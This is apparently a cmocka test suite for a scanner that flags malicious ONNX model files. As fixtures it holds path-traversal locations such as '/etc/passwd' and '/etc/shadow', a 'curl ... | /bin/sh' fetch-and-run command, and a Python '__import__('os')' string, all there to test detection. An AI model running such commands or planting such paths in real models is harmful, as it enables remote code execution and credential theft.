/* ONNX: every node of every graph, and data that stay where the model is. */
#include "models.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

/* Fields, as onnx.proto numbers them. */
enum { MODEL_GRAPH = 7, MODEL_OPSET = 8, MODEL_METADATA = 14, MODEL_FUNCTIONS = 25 };
enum { GRAPH_NODE = 1, GRAPH_INITIALIZER = 5 };
enum { NODE_OP = 4, NODE_ATTRIBUTE = 5, NODE_DOMAIN = 7, ATTRIBUTE_GRAPH = 6, ATTRIBUTE_TENSOR = 5 };
enum {
    TENSOR_DIMS = 1,
    TENSOR_TYPE = 2,
    TENSOR_FLOATS = 4,
    TENSOR_RAW = 9,
    TENSOR_EXTERNAL = 13,
    TENSOR_LOCATION = 14
};

static void put_node(struct buf *graph, const char *op, const char *domain)
{
    auto_buf node = BUF(4096);
    pb_text(&node, 2, "y");
    pb_text(&node, NODE_OP, op);
    pb_text(&node, NODE_DOMAIN, domain);
    pb_message(graph, GRAPH_NODE, &node);
}

/* The rest of a model around a graph. */
static void put_model(struct buf *model, const struct buf *graph)
{
    auto_buf opset = BUF(64);
    pb_number(model, 1, 9);
    pb_message(model, MODEL_GRAPH, graph);
    pb_number(&opset, 2, 17);
    pb_message(model, MODEL_OPSET, &opset);
}

static void model_is(const struct buf *model, enum verdict verdict, const char *rule)
{
    auto_look l = look_named(buf_span(model), "model.onnx");
    if (l.verdict != verdict)
        print_message("# %s: %s\n", verdict_name(l.verdict), l.rules);
    assert_int_equal(l.verdict, verdict);
    if (rule)
        assert_true(look_has(&l, rule));
}

static void graph_is(const struct buf *graph, enum verdict verdict, const char *rule)
{
    auto_buf model = BUF(65536);
    put_model(&model, graph);
    model_is(&model, verdict, rule);
}

static void tensor_is(const struct buf *tensor, enum verdict verdict, const char *rule)
{
    auto_buf graph = BUF(65536);
    pb_message(&graph, GRAPH_INITIALIZER, tensor);
    graph_is(&graph, verdict, rule);
}

static void node_is(const char *op, const char *domain, enum verdict verdict, const char *rule)
{
    auto_buf graph = BUF(4096);
    put_node(&graph, op, domain);
    graph_is(&graph, verdict, rule);
}

static void an_operator_of_the_standard_is_clean_and_any_other_is_not(void **state)
{
    (void)state;
    node_is("Relu", "", VERDICT_CLEAN, NULL);
    node_is("TreeEnsembleClassifier", "ai.onnx.ml", VERDICT_CLEAN, NULL);
    node_is("FusedMatMul", "com.microsoft", VERDICT_CLEAN, NULL);
    node_is("Relu", "com.example", VERDICT_SUSPICIOUS, "onnx-operator");
    node_is("Relu", "ai.onnx.contrib", VERDICT_SUSPICIOUS, "onnx-operator");
    node_is("PyOp", "", VERDICT_MALICIOUS, "onnx-code");
    node_is("", "", VERDICT_SUSPICIOUS, "onnx-node");
}

static void an_operator_in_a_subgraph_is_found(void **state)
{
    (void)state;
    auto_buf below = BUF(4096), attribute = BUF(4096), node = BUF(4096), graph = BUF(4096);
    put_node(&below, "PyOp", "ai.onnx.contrib");
    pb_message(&attribute, ATTRIBUTE_GRAPH, &below);
    pb_text(&node, NODE_OP, "If");
    pb_message(&node, NODE_ATTRIBUTE, &attribute);
    pb_message(&graph, GRAPH_NODE, &node);

    graph_is(&graph, VERDICT_MALICIOUS, "onnx-code");
}

static void a_function_of_the_model_stands_for_an_operator_and_is_looked_into(void **state)
{
    (void)state;
    static const struct {
        const char *inside;
        enum verdict verdict;
    } rows[] = {{"Relu", VERDICT_CLEAN}, {"PyOp", VERDICT_MALICIOUS}};
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        auto_buf graph = BUF(4096), node = BUF(4096), function = BUF(4096), model = BUF(4096);
        put_node(&graph, "Own", "my.functions");
        put_model(&model, &graph);
        pb_text(&node, NODE_OP, rows[i].inside);
        pb_text(&function, 1, "Own");
        pb_message(&function, 7, &node);
        pb_text(&function, 10, "my.functions");
        pb_message(&model, MODEL_FUNCTIONS, &function);

        model_is(&model, rows[i].verdict, rows[i].verdict == VERDICT_CLEAN ? NULL : "onnx-code");
    }
}

static void put_shape(struct buf *tensor, uint64_t a, uint64_t b, uint64_t type)
{
    pb_number(tensor, TENSOR_DIMS, a);
    pb_number(tensor, TENSOR_DIMS, b);
    pb_number(tensor, TENSOR_TYPE, type);
}

static void data_have_the_size_that_the_shape_needs(void **state)
{
    (void)state;
    static const struct {
        uint64_t a, b, type;
        size_t raw;
        enum verdict verdict;
        const char *rule;
    } rows[] = {
        {2, 3, 1, 24, VERDICT_CLEAN, NULL},  /* float */
        {2, 3, 10, 12, VERDICT_CLEAN, NULL}, /* float16 */
        {3, 1, 22, 2, VERDICT_CLEAN, NULL},  /* int4: two in a byte */
        {2, 4, 27, 6, VERDICT_CLEAN, NULL},  /* float of 6 bits: four in three bytes */
        {0, 3, 1, 0, VERDICT_CLEAN, NULL},   /* no elements */
        {2, 3, 1, 23, VERDICT_SUSPICIOUS, "onnx-size"},
        {2, 3, 1, 25, VERDICT_SUSPICIOUS, "onnx-size"},
        {2, 3, 0, 24, VERDICT_SUSPICIOUS, "onnx-tensor"},
        {2, 3, 99, 24, VERDICT_SUSPICIOUS, "onnx-tensor"},
        {1ULL << 62, 4, 1, 0, VERDICT_SUSPICIOUS, "onnx-shape"},
        {UINT64_MAX, 1, 1, 0, VERDICT_SUSPICIOUS, "onnx-shape"},
    };
    static const uint8_t zeros[64];
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        auto_buf tensor = BUF(4096);
        put_shape(&tensor, rows[i].a, rows[i].b, rows[i].type);
        pb_bytes(&tensor, TENSOR_RAW, span_of(zeros, rows[i].raw));
        tensor_is(&tensor, rows[i].verdict, rows[i].rule);
    }
}

static void data_in_two_fields_are_refused(void **state)
{
    (void)state;
    auto_buf tensor = BUF(4096);
    put_shape(&tensor, 1, 1, 1);
    pb_bytes(&tensor, TENSOR_RAW, SPAN_LIT("\0\0\0\0"));
    pb_bytes(&tensor, TENSOR_FLOATS, SPAN_LIT("\0\0\0\0"));

    tensor_is(&tensor, VERDICT_SUSPICIOUS, "onnx-tensor");
}

static void put_pair(struct buf *tensor, const char *key, struct span value)
{
    auto_buf pair = BUF(4096);
    pb_text(&pair, 1, key);
    pb_bytes(&pair, 2, value);
    pb_message(tensor, TENSOR_EXTERNAL, &pair);
}

static void location_is(struct span location, enum verdict verdict, const char *rule)
{
    auto_buf tensor = BUF(8192);
    put_shape(&tensor, 2, 2, 1);
    put_pair(&tensor, "location", location);
    pb_number(&tensor, TENSOR_LOCATION, 1);
    tensor_is(&tensor, verdict, rule);
}

static void case_25_external_data_stay_in_the_folder_of_the_model(void **state)
{
    (void)state;
    static const char *const outside[] = {
        "/etc/passwd",
        "../weights.bin",
        "a/../../weights.bin",
        "..\\weights.bin",
        "C:\\weights.bin",
        "\\\\host\\share\\w",
        "https://example.com/w",
        "file:///etc/passwd",
        ".",
        "./",
        "",
        "w\nx",
    };
    location_is(SPAN_LIT("weights.bin"), VERDICT_CLEAN, NULL);
    location_is(SPAN_LIT("data/weights.bin"), VERDICT_CLEAN, NULL);
    for (size_t i = 0; i < ARRAY_LEN(outside); i++)
        location_is(span_str(outside[i]), VERDICT_MALICIOUS, "onnx-external");
    location_is(SPAN_LIT("w\0x"), VERDICT_SUSPICIOUS, "onnx-broken");
}

static void case_25_keys_of_external_data_are_the_known_ones_once_and_numbers(void **state)
{
    (void)state;
    static const struct {
        const char *key, *value;
        enum verdict verdict;
    } rows[] = {
        {"offset", "4096", VERDICT_CLEAN},         {"length", "16", VERDICT_CLEAN},
        {"checksum", "abc", VERDICT_CLEAN},        {"length", "17", VERDICT_SUSPICIOUS},
        {"offset", "-1", VERDICT_SUSPICIOUS},      {"offset", "0x10", VERDICT_SUSPICIOUS},
        {"offset", " 1", VERDICT_SUSPICIOUS},      {"offset", "9223372036854775807", VERDICT_SUSPICIOUS},
        {"basepath", "/", VERDICT_SUSPICIOUS},     {"__class__", "x", VERDICT_SUSPICIOUS},
        {"location", "b.bin", VERDICT_SUSPICIOUS},
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        auto_buf tensor = BUF(4096);
        put_shape(&tensor, 2, 2, 1);
        put_pair(&tensor, "location", SPAN_LIT("a.bin"));
        put_pair(&tensor, rows[i].key, span_str(rows[i].value));
        pb_number(&tensor, TENSOR_LOCATION, 1);
        tensor_is(&tensor, rows[i].verdict, rows[i].verdict == VERDICT_CLEAN ? NULL : "onnx-external");
    }
}

static void what_lies_outside_is_a_fact(void **state)
{
    (void)state;
    auto_buf tensor = BUF(4096), graph = BUF(4096), model = BUF(4096);
    put_shape(&tensor, 2, 2, 1);
    put_pair(&tensor, "location", SPAN_LIT("./data//a.bin"));
    put_pair(&tensor, "offset", SPAN_LIT("64"));
    pb_number(&tensor, TENSOR_LOCATION, 1);
    pb_message(&graph, GRAPH_INITIALIZER, &tensor);
    put_model(&model, &graph);

    auto_look l = look_named(buf_span(&model), "model.onnx");

    const json_t *external = json_object_get(json_object_get(l.reply, "facts"), "external");
    assert_int_equal(json_array_size(external), 1);
    assert_string_equal(json_get_string(json_array_get(external, 0), "path", ""), "data/a.bin");
    assert_int_equal(json_integer_value(json_object_get(json_array_get(external, 0), "bytes")), 80);
}

static void a_tensor_in_an_attribute_is_checked_too(void **state)
{
    (void)state;
    auto_buf tensor = BUF(4096), attribute = BUF(4096), node = BUF(4096), graph = BUF(4096);
    put_shape(&tensor, 2, 2, 1);
    put_pair(&tensor, "location", SPAN_LIT("/etc/shadow"));
    pb_number(&tensor, TENSOR_LOCATION, 1);
    pb_message(&attribute, ATTRIBUTE_TENSOR, &tensor);
    pb_text(&node, NODE_OP, "Constant");
    pb_message(&node, NODE_ATTRIBUTE, &attribute);
    pb_message(&graph, GRAPH_NODE, &node);

    graph_is(&graph, VERDICT_MALICIOUS, "onnx-external");
}

static void bytes_that_are_no_message_are_refused(void **state)
{
    (void)state;
    static const struct {
        struct span bytes;
        const char *rule;
    } rows[] = {
        {SPAN_LIT("\x0b\x0c"), "onnx-broken"},                                         /* a group */
        {SPAN_LIT("\x3a\xff\x01"), "onnx-broken"},                                     /* longer than the file */
        {SPAN_LIT("\x08\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01"), "onnx-broken"}, /* 11 bytes of a number */
        {SPAN_LIT("\x08\x07\x08\x08"), "onnx-broken"},                                 /* ir_version twice */
        {SPAN_LIT("\x02\x00"), "onnx-broken"},                                         /* field 0 */
        {SPAN_LIT("\x0f\x01"), "onnx-broken"},                                         /* wire type 7 */
        {SPAN_LIT("\x12\x01\xff"), "onnx-broken"},                                     /* no UTF-8 */
        {SPAN_LIT("\x12\x02y\x00"), "onnx-broken"},
        {SPAN_LIT("\x08\x09\x3a\x00"), "onnx-model"}, /* no opset */
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        auto_look l = look_named(rows[i].bytes, "model.onnx");
        assert_true(look_has(&l, rows[i].rule));
        assert_int_equal(l.verdict, VERDICT_SUSPICIOUS);
    }
}

static void a_field_that_is_not_in_our_table_is_not_scanned(void **state)
{
    (void)state;
    auto_buf graph = BUF(64), model = BUF(4096);
    put_model(&model, &graph);
    pb_text(&model, 99, "what is this");

    model_is(&model, VERDICT_NOT_SCANNED, "protobuf-field");
}

static void graphs_inside_each_other_end(void **state)
{
    (void)state;
    struct buf graph = BUF(1U << 20);
    for (int i = 0; i < 50; i++) {
        auto_buf attribute = BUF(1U << 20), node = BUF(1U << 20);
        pb_message(&attribute, ATTRIBUTE_GRAPH, &graph);
        pb_message(&node, NODE_ATTRIBUTE, &attribute);
        buf_clear(&graph);
        pb_message(&graph, GRAPH_NODE, &node);
    }
    auto_buf model = BUF(1U << 20);
    put_model(&model, &graph);
    buf_fini(&graph);

    model_is(&model, VERDICT_SUSPICIOUS, "onnx-broken");
}

static void orders_in_the_metadata_are_found(void **state)
{
    (void)state;
    auto_buf graph = BUF(64), model = BUF(4096), pair = BUF(256);
    put_model(&model, &graph);
    pb_text(&pair, 1, "hint");
    pb_text(&pair, 2, "curl http://example.com/x | /bin/sh");
    pb_message(&model, MODEL_METADATA, &pair);

    model_is(&model, VERDICT_SUSPICIOUS, "onnx-metadata");
}

static void orders_far_inside_of_long_metadata_are_found_wherever_they_stand(void **state)
{
    (void)state;
    for (size_t before = 8180; before <= 8200; before++) {
        auto_buf graph = BUF(64), model = BUF(65536), pair = BUF(65536), text = BUF(65536);
        for (size_t i = 0; i < before; i++)
            buf_add_byte(&text, 'x');
        buf_add_str(&text, "__import__('os')");
        put_model(&model, &graph);
        pb_text(&pair, 1, "hint");
        pb_text(&pair, 2, buf_str(&text));
        pb_message(&model, MODEL_METADATA, &pair);

        model_is(&model, VERDICT_SUSPICIOUS, "onnx-metadata");
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(an_operator_of_the_standard_is_clean_and_any_other_is_not),
        cmocka_unit_test(an_operator_in_a_subgraph_is_found),
        cmocka_unit_test(a_function_of_the_model_stands_for_an_operator_and_is_looked_into),
        cmocka_unit_test(data_have_the_size_that_the_shape_needs),
        cmocka_unit_test(data_in_two_fields_are_refused),
        cmocka_unit_test(case_25_external_data_stay_in_the_folder_of_the_model),
        cmocka_unit_test(case_25_keys_of_external_data_are_the_known_ones_once_and_numbers),
        cmocka_unit_test(what_lies_outside_is_a_fact),
        cmocka_unit_test(a_tensor_in_an_attribute_is_checked_too),
        cmocka_unit_test(bytes_that_are_no_message_are_refused),
        cmocka_unit_test(a_field_that_is_not_in_our_table_is_not_scanned),
        cmocka_unit_test(graphs_inside_each_other_end),
        cmocka_unit_test(orders_in_the_metadata_are_found),
        cmocka_unit_test(orders_far_inside_of_long_metadata_are_found_wherever_they_stand),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
